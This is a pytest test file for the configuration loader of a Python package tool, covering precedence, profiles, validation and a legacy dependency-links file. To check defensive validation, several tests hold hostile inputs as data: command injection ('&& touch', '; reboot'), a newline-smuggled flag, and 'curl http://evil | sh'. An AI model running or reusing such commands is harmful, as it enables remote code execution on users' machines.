"""Configuration: precedence, named profiles, provenance, validation and the legacy links file."""

from __future__ import annotations

from pathlib import Path

import pytest

from ipydeps.errors import ConfigError
from ipydeps.settings import load_config, load_dependency_links, user_config_path


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def files(tmp_path: Path) -> tuple[Path, Path]:
    system = write(
        tmp_path / "etc" / "config.toml",
        """
repository_url = "http://127.0.0.1:9/system/"
upstream = "allow"
jobs = 2
[profiles.airgap]
upstream = "deny"
retries = 7
""",
    )
    user = write(
        tmp_path / "home" / "config.toml",
        """
repository_url = "http://127.0.0.1:9/user/"
timeout = 12.5
[apk_map]
python-dateutil = "py3-dateutil"
[profiles.fast]
jobs = 16
""",
    )
    return system, user


def test_defaults_when_nothing_is_configured(tmp_path: Path) -> None:
    settings = load_config(environ={}, system_path=tmp_path / "none.toml", user_path=None)
    assert settings.repository_url is None
    assert settings.upstream == "allow" and settings.upstream_allowed
    assert settings.upstream_url == "https://pypi.org/simple/"
    assert settings.apk == "auto" and settings.apk_allowed
    assert settings.policy == "prebuilt-only"
    assert (settings.jobs, settings.retries, settings.timeout) == (4, 3, 30.0)
    assert set(settings.provenance.values()) == {"default"}


def test_precedence_defaults_system_user_env_arguments(files: tuple[Path, Path]) -> None:
    system, user = files
    settings = load_config(
        environ={"IPYDEPS_REPOSITORY_URL": "http://127.0.0.1:9/env/", "IPYDEPS_RETRIES": "5"},
        overrides={"retries": 9, "jobs": None},
        system_path=system,
        user_path=user,
    )
    assert settings.repository_url == "http://127.0.0.1:9/env/"
    assert settings.provenance["repository_url"] == "env IPYDEPS_REPOSITORY_URL"
    assert settings.retries == 9 and settings.provenance["retries"] == "argument"
    assert settings.jobs == 2 and settings.provenance["jobs"] == str(system)  # None is no override
    assert settings.timeout == 12.5 and settings.provenance["timeout"] == str(user)
    assert dict(settings.apk_map) == {"python-dateutil": "py3-dateutil"}
    assert settings.provenance["upstream_url"] == "default"
    description = settings.describe()
    assert "timeout            = 12.5" in description
    assert "(env IPYDEPS_REPOSITORY_URL)" in description and "(argument)" in description


def test_user_file_beats_system_file(files: tuple[Path, Path]) -> None:
    system, user = files
    settings = load_config(environ={}, system_path=system, user_path=user)
    assert settings.repository_url == "http://127.0.0.1:9/user/"
    assert settings.provenance["repository_url"] == str(user)


def test_named_profile_by_argument_and_by_environment(files: tuple[Path, Path]) -> None:
    system, user = files
    settings = load_config(name="airgap", environ={}, system_path=system, user_path=user)
    assert settings.upstream == "deny" and not settings.upstream_allowed
    assert settings.retries == 7
    assert settings.provenance["upstream"] == f"{system} [profiles.airgap]"
    assert settings.profile == "airgap"
    from_env = load_config(environ={"IPYDEPS_CONFIG": "fast"}, system_path=system, user_path=user)
    assert from_env.jobs == 16 and from_env.profile == "fast"
    # The environment still beats a profile.
    env_wins = load_config(
        name="airgap", environ={"IPYDEPS_UPSTREAM": "allow"}, system_path=system, user_path=user
    )
    assert env_wins.upstream == "allow"


def test_unknown_profile_lists_the_defined_ones(files: tuple[Path, Path]) -> None:
    system, user = files
    with pytest.raises(ConfigError, match=r"profile 'nope' is not defined .*airgap, fast"):
        load_config(name="nope", environ={}, system_path=system, user_path=user)


def test_ipydeps_config_may_name_a_file(tmp_path: Path, files: tuple[Path, Path]) -> None:
    system, _ = files
    other = write(tmp_path / "other.toml", 'apk = "never"\n')
    settings = load_config(environ={"IPYDEPS_CONFIG": str(other)}, system_path=system)
    assert settings.apk == "never" and not settings.apk_allowed
    assert settings.provenance["apk"] == str(other)
    with pytest.raises(ConfigError, match="does not exist"):
        load_config(environ={"IPYDEPS_CONFIG": str(tmp_path / "missing.toml")}, system_path=None)


def test_user_config_path_follows_xdg_then_home(tmp_path: Path) -> None:
    assert user_config_path({"XDG_CONFIG_HOME": "/x", "HOME": "/h"}) == Path(
        "/x/ipydeps/config.toml"
    )
    assert user_config_path({"HOME": "/h"}) == Path("/h/.config/ipydeps/config.toml")
    assert user_config_path({}) is None
    write(tmp_path / "xdg" / "ipydeps" / "config.toml", "jobs = 3\n")
    settings = load_config(environ={"XDG_CONFIG_HOME": str(tmp_path / "xdg")}, system_path=None)
    assert settings.jobs == 3


def test_every_problem_is_reported_at_once_with_fixes(tmp_path: Path) -> None:
    system = write(tmp_path / "system.toml", 'upstrem = "deny"\njobs = "many"\n')
    user = write(tmp_path / "user.toml", "this is not toml")
    with pytest.raises(ConfigError) as caught:
        load_config(
            environ={
                "IPYDEPS_UPSTREAM": "sometimes",
                "IPYDEPS_APK_MAP": "numpy",
                "IPYDEPS_REPOSITORY_URL": "ftp://mirror/",
            },
            overrides={"retries": 99, "polcy": "x", "apk_repository": "../etc"},
            system_path=system,
            user_path=user,
        )
    message = str(caught.value)
    for expected in [
        "unknown key 'upstrem'; did you mean 'upstream'?",
        f"{system}: jobs must be a number, got 'many'",
        f"{user}: not valid TOML",
        "env IPYDEPS_UPSTREAM: upstream must be 'allow' or 'deny', got 'sometimes'",
        "env IPYDEPS_APK_MAP: 'numpy' is not project=apk-name",
        "env IPYDEPS_REPOSITORY_URL: repository_url must be an http(s) URL, got 'ftp://mirror/'",
        "argument: retries must be between 0 and 20, got 99",
        "argument: unknown key 'polcy'; did you mean 'policy'?",
        "apk_repository must be <branch>/<repo>",
    ]:
        assert expected in message


def test_policy_other_than_prebuilt_only_is_refused() -> None:
    with pytest.raises(ConfigError, match="policy must be 'prebuilt-only'"):
        load_config(environ={"IPYDEPS_POLICY": "build-from-source"}, system_path=None)


def test_apk_map_from_the_environment() -> None:
    settings = load_config(
        environ={"IPYDEPS_APK_MAP": "python-dateutil=py3-dateutil, pyyaml=py3-yaml"},
        system_path=None,
    )
    assert dict(settings.apk_map) == {"python-dateutil": "py3-dateutil", "pyyaml": "py3-yaml"}


def test_settings_are_frozen(tmp_path: Path) -> None:
    settings = load_config(environ={}, system_path=None)
    with pytest.raises(AttributeError):
        settings.jobs = 8  # type: ignore[misc]
    with pytest.raises(TypeError):
        settings.apk_map["x"] = "y"  # type: ignore[index]


def test_dependency_links_accept_only_apk_names() -> None:
    links = load_dependency_links(
        '{"numpy": ["apk add py3-numpy openblas"], "SciPy": {"apk": ["py3-scipy"]},'
        ' "pandas": "apk add py3-pandas"}'
    )
    assert links == {
        "numpy": ("py3-numpy", "openblas"),
        "scipy": ("py3-scipy",),
        "pandas": ("py3-pandas",),
    }


def test_dependency_links_refuse_commands_and_run_nothing(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    with pytest.raises(ConfigError) as caught:
        load_dependency_links(
            '{"numpy": ["apk add py3-numpy && touch ' + str(marker) + '"],'
            ' "x": ["pip install x"], "y": ["apk add --allow-untrusted y"],'
            ' "z": {"apk": ["py3-z; reboot"]}, "w": 3}'
        )
    message = str(caught.value)
    assert "never run" in message
    assert "'&&'" in message and "'pip install x' is not a plain 'apk add <names>'" in message
    assert "'--allow-untrusted'" in message and "'py3-z; reboot'" in message
    assert "entry 'w'" in message
    assert not marker.exists()


def test_dependency_links_bad_json() -> None:
    with pytest.raises(ConfigError, match="not valid JSON"):
        load_dependency_links("{nope")
    with pytest.raises(ConfigError, match="must be a JSON object"):
        load_dependency_links("[1]")


def test_dependency_links_file_fills_gaps_in_apk_map(tmp_path: Path) -> None:
    links = write(
        tmp_path / "links.json",
        '{"numpy": ["apk add py3-numpy openblas"], "python-dateutil": {"apk": ["py3-wrong"]}}',
    )
    system = write(
        tmp_path / "system.toml",
        f'dependency_links = "{links}"\n[apk_map]\npython-dateutil = "py3-dateutil"\n',
    )
    settings = load_config(environ={}, system_path=system)
    # An explicit apk_map entry wins over the legacy file.
    assert dict(settings.apk_map) == {"python-dateutil": "py3-dateutil", "numpy": "py3-numpy"}
    assert settings.provenance["apk_map"] == f"{system} + dependency_links {links}"
    assert settings.dependency_links == str(links)


def test_a_hostile_dependency_links_file_is_a_config_error(tmp_path: Path) -> None:
    links = write(tmp_path / "links.json", '{"numpy": ["curl http://evil | sh"]}')
    with pytest.raises(ConfigError) as caught:
        load_config(
            environ={"IPYDEPS_DEPENDENCY_LINKS": str(links), "IPYDEPS_JOBS": "0"},
            system_path=None,
        )
    message = str(caught.value)
    assert f"env IPYDEPS_DEPENDENCY_LINKS: {links}: Refused the dependency links file" in message
    assert "env IPYDEPS_JOBS: jobs must be between 1 and 64, got 0" in message
    with pytest.raises(ConfigError, match="cannot be read"):
        load_config(
            environ={"IPYDEPS_DEPENDENCY_LINKS": str(tmp_path / "nope.json")}, system_path=None
        )


def test_an_apk_name_with_a_trailing_newline_is_refused() -> None:
    # "$" matches before a final newline: the name would reach apk with it.
    with pytest.raises(ConfigError, match="not apk package names"):
        load_dependency_links('{"numpy": {"apk": ["py3-numpy\\n"]}}')
    with pytest.raises(ConfigError, match="not apk package names"):
        load_dependency_links('{"numpy": "apk add py3-numpy\\n--allow-untrusted"}')


def test_deeply_nested_files_are_config_errors_not_crashes(tmp_path: Path) -> None:
    depth = 100_000
    links = write(tmp_path / "links.json", "[" * depth + "]" * depth)
    system = write(tmp_path / "system.toml", "x = " + "[" * depth + "]" * depth + "\n")
    with pytest.raises(ConfigError) as caught:
        load_config(environ={"IPYDEPS_DEPENDENCY_LINKS": str(links)}, system_path=system)
    message = str(caught.value)
    assert f"{system}: nested too deeply to be read" in message
    assert f"{links}: The dependency links file is nested too deeply" in message


def test_read_bounds_are_configurable_and_checked(tmp_path: Path) -> None:
    settings = load_config(
        environ={"IPYDEPS_MAX_PAGE_BYTES": "1048576"},
        system_path=None,
        user_path=tmp_path / "none.toml",
    )
    assert settings.max_page_bytes == 1 << 20
    assert settings.provenance["max_page_bytes"] == "env IPYDEPS_MAX_PAGE_BYTES"
    assert settings.max_download_bytes == 4 << 30
    with pytest.raises(ConfigError, match="max_download_bytes must be between"):
        load_config(
            environ={},
            overrides={"max_download_bytes": 10},
            system_path=None,
            user_path=tmp_path / "none.toml",
        )


@pytest.mark.parametrize(("raw", "expected"), [("0", False), ("off", False), ("1", True)])
def test_restore_lock_is_a_flag_from_the_environment(
    files: tuple[Path, Path], raw: str, expected: bool
) -> None:
    system, user = files
    settings = load_config(
        environ={"IPYDEPS_RESTORE_LOCK": raw}, system_path=system, user_path=user
    )
    assert settings.restore_lock is expected
    assert settings.provenance["restore_lock"] == "env IPYDEPS_RESTORE_LOCK"


def test_restore_lock_from_the_config_file_and_a_bad_value(files: tuple[Path, Path]) -> None:
    system, user = files
    write(user, "restore_lock = false\n")
    assert load_config(environ={}, system_path=system, user_path=user).restore_lock is False
    with pytest.raises(ConfigError, match="restore_lock must be true or false"):
        load_config(environ={"IPYDEPS_RESTORE_LOCK": "maybe"}, system_path=system, user_path=user)


def test_shared_cache_is_off_by_default_and_a_directory_from_env_or_file(
    files: tuple[Path, Path],
) -> None:
    system, user = files
    assert load_config(environ={}, system_path=system, user_path=user).shared_cache is None
    settings = load_config(
        environ={"IPYDEPS_SHARED_CACHE": "/var/cache/ipydeps-shared"},
        system_path=system,
        user_path=user,
    )
    assert settings.shared_cache == "/var/cache/ipydeps-shared"
    assert "shared_cache       = '/var/cache/ipydeps-shared'" in settings.describe()
    assert "(env IPYDEPS_SHARED_CACHE)" in settings.describe()
    # Empty means off, as unset does (compose files pass variables through that way).
    off = load_config(environ={"IPYDEPS_SHARED_CACHE": ""}, system_path=system, user_path=user)
    assert off.shared_cache is None
    write(user, 'shared_cache = "/srv/cache"\n')
    assert load_config(environ={}, system_path=system, user_path=user).shared_cache == "/srv/cache"


def test_a_relative_shared_cache_is_refused_with_what_to_write(files: tuple[Path, Path]) -> None:
    system, user = files
    with pytest.raises(ConfigError, match="shared_cache must be an absolute directory path"):
        load_config(environ={"IPYDEPS_SHARED_CACHE": "cache"}, system_path=system, user_path=user)
